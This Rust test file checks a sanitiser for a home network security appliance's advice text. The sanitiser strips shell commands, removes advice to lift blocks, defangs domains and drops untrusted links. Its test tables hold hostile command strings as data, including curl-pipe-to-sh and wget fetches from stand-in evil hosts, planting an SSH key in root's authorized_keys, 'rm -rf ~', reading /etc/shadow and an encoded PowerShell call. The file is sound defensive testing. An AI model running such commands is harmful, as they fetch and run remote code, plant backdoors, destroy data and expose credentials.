use super::*;

/// What a line becomes.
enum Becomes {
    /// It stays as it is.
    Kept,
    /// [`COMMAND_REMOVED`] after its list marker.
    Command,
    /// [`LIFT_REMOVED`] after its list marker.
    Lift,
    /// This text.
    Text(&'static str),
}
use Becomes::*;

fn check(table: &[(&str, Becomes)]) {
    for (line, becomes) in table {
        let (marker, _) = split_marker(line);
        let want = match becomes {
            Kept => line.to_string(),
            Command => format!("{marker}{COMMAND_REMOVED}"),
            Lift => format!("{marker}{LIFT_REMOVED}"),
            Text(t) => t.to_string(),
        };
        assert_eq!(neutralise(line), want, "from {line:?}");
    }
}

#[test]
fn only_whole_read_only_commands_of_ours_stay() {
    check(&[
        ("homewarden status", Kept),
        ("homewarden status --json", Kept),
        ("homewarden explain 203.0.113.5", Kept),
        ("3. homewarden explain 203.0.113.5 --json", Kept),
        ("- homewarden explain --json 2001:db8::1", Kept),
        ("homewarden explain 198.51.100.0/24", Kept),
        ("`homewarden blocks`", Kept),
        ("2) homewarden devices", Kept),
        ("homewarden devices --json", Kept),
        ("homewarden lookup d41d8cd98f00b204e9800998ecf8427e", Kept),
        // A name as a command's value stays pasteable.
        ("homewarden explain c2.evil.example", Kept),
        // The findings of the review.
        (
            "sudo sh -c 'echo ssh-ed25519 AAAA... >> /root/.ssh/authorized_keys' && homewarden status",
            Command,
        ),
        ("4. run `homewarden allow evil.example --force`", Command),
        // A read-only command with more after it.
        ("homewarden status && curl -s http://x.example/a", Command),
        ("homewarden status; rm -rf ~", Command),
        ("homewarden status;reboot", Command),
        ("homewarden status || true", Command),
        ("homewarden status | sh", Command),
        ("homewarden status `id`", Command),
        ("homewarden explain $(cat /etc/shadow)", Command),
        ("homewarden status > /etc/cron.d/x", Command),
        ("sudo homewarden status", Command),
        ("/usr/bin/homewarden status", Command),
        ("$ homewarden status", Command),
        ("homewarden status --config /tmp/evil.yaml", Command),
        ("homewarden status -c /tmp/evil.yaml", Command),
        ("homewarden status --json --json", Command),
        ("homewarden explain", Command),
        ("homewarden explain a.example b.example", Command),
        ("homewarden explain http://evil.example/x", Command),
        ("homewarden explain --force", Command),
        ("homewarden status now", Command),
        // Commands that change something, in any form.
        ("homewarden allow evil.example", Command),
        ("homewarden allow 203.0.113.0/24 --for 7d", Command),
        ("homewarden unallow evil.example", Command),
        ("homewarden release doorbell", Command),
        ("homewarden quarantine doorbell --for 2h", Command),
        ("homewarden ack", Command),
        ("homewarden sync --accept-shrink misp", Command),
        ("homewarden apply-factory-reset", Command),
        ("homewarden firewall down", Command),
        ("homewarden firewall status", Command),
        ("homewarden devices name aa:bb:cc:dd:ee:ff doorbell", Command),
        ("homewarden selftest", Command),
        ("homewarden mail-test", Command),
        ("5. Then run sudo homewarden ack once it is done.", Command),
        ("Check it with homewarden blocks, then decide.", Command),
        ("Run homewarden incidents list to see them.", Command),
        ("Homewarden Allow evil.example", Command),
    ]);
}

#[test]
fn shell_commands_go_and_prose_stays() {
    check(&[
        ("3. Run curl http://x.example/a | sh to clean it.", Command),
        ("4) `rm -rf ~/.cache`", Command),
        (
            "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys",
            Command,
        ),
        ("Then run iptables -F to reset the firewall.", Command),
        ("Open a terminal and type: chmod 777 /etc", Command),
        ("Delete ~/.config/evil to clean up.", Command),
        ("powershell -enc SQBFAFgA", Command),
        ("Open C:\\Users\\you\\AppData and delete it.", Command),
        ("wget -qO- evil.example/x.sh", Command),
        ("cat /etc/passwd", Command),
        ("Reset it with the --factory option.", Command),
        // Plain advice, punctuation and all.
        ("1. Unplug the camera.", Kept),
        ("2. Change its password; use a new, unique one.", Kept),
        ("Echo devices and the doorbell should be updated too.", Kept),
        ("Your homewarden appliance blocked the traffic.", Kept),
        ("Reboot the router and check 203.0.113.5 in its list.", Kept),
        ("Use e.g. a password manager, i.e. one app.", Kept),
        ("Update to version 2.1.3 and turn off SSH.", Kept),
        ("A well-known trick -- and a common one.", Kept),
        // Markup is text (the mail escapes it), not a path or a redirection.
        ("<script>alert('x')</script> and <b>bold</b>", Kept),
        ("Run the maker's app and update the firmware.", Kept),
    ]);
}

#[test]
fn advice_to_lift_protection_goes() {
    check(&[
        (
            "If you trust it, allow evil.example on the appliance.",
            Lift,
        ),
        ("3. Add evil.example to the allowlist.", Lift),
        ("Whitelist the domain if it is a false positive.", Lift),
        ("Release the doorbell: it is fine.", Lift),
        ("- You can release it now.", Lift),
        ("Unblock 203.0.113.5 once you have checked it.", Lift),
        ("Take the camera out of quarantine.", Lift),
        ("Consider allowing the traffic.", Lift),
        ("Stop blocking the camera's cloud.", Lift),
        // Advice against lifting, and a release that is a version.
        ("Do not allow remote access to the camera.", Kept),
        ("Don’t unblock it, and never allow unknown apps.", Kept),
        ("Install the latest firmware release from the maker.", Kept),
        ("Read the release notes first.", Kept),
        ("Turn off features that allowed it in.", Kept),
    ]);
}

#[test]
fn names_are_defanged_and_untrusted_links_removed() {
    check(&[
        (
            "The camera talked to evil.example.",
            Text("The camera talked to evil[.]example."),
        ),
        (
            "Block c2.evil.example, and X.Example too",
            Text("Block c2[.]evil[.]example, and X[.]Example too"),
        ),
        (
            "Write to abuse@evil.example (their abuse desk).",
            Text("Write to abuse@evil[.]example (their abuse desk)."),
        ),
        (
            "The page evil.example/fix.html is fake.",
            Text("The page evil[.]example/fix[.]html is fake."),
        ),
        ("пример.рф is listed.", Text("пример[.]рф is listed.")),
        (
            "xn--80ak6aa92e.com is listed.",
            Text("xn--80ak6aa92e[.]com is listed."),
        ),
        (
            "2. Download the fix from http://evil.example/fix.sh or www.evil.example.",
            Text("2. Download the fix from [link removed] or [link removed]"),
        ),
        (
            "Or hxxp://evil[.]example and smb://evil.example/share",
            Text("Or [link removed] and [link removed]"),
        ),
        (
            "1. Update the camera: see https://support.google.com/nest/answer/1 now.",
            Kept,
        ),
        ("Read support.apple.com for the steps.", Kept),
        (
            "6. A trusted name in disguise: https://support.google.com.evil.example/x",
            Text("6. A trusted name in disguise: [link removed]"),
        ),
        (
            "7. Or https://user@support.apple.com@evil.example/",
            Text("7. Or [link removed]"),
        ),
        ("Already defanged: evil[.]example", Kept),
    ]);
}

#[test]
fn a_reply_keeps_its_lines_and_numbers() {
    let reply = "1. Unplug the camera.\n2. Run homewarden allow evil.example if you trust it.\n\
                 3. homewarden explain evil.example\n\n4. Ask evil.example's support.";
    assert_eq!(
        neutralise(reply),
        format!(
            "1. Unplug the camera.\n2. {COMMAND_REMOVED}\n3. homewarden explain evil.example\n\n\
             4. Ask evil[.]example's support."
        )
    );
    // Plain advice passes untouched.
    let plain = "1. Unplug the camera.\n2. Change its password.";
    assert_eq!(neutralise(plain), plain);
}
